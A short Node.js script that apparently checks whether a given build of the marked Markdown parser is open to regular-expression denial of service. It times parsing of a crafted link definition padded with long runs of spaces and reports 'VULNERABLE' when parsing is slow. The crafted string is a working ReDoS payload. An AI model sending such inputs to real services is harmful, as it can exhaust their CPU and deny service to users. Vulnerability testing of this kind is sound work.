const m = require(process.argv[2]);
const t = process.hrtime.bigint();
m.marked(`[x]:${' '.repeat(1500)}x ${' '.repeat(1500)} x`);
const ms = Number(process.hrtime.bigint() - t) / 1e6;
console.log(`${ms.toFixed(0)} ms ${ms > 600 ? 'VULNERABLE' : 'ok'}`);
process.exit(ms > 600 ? 1 : 0);
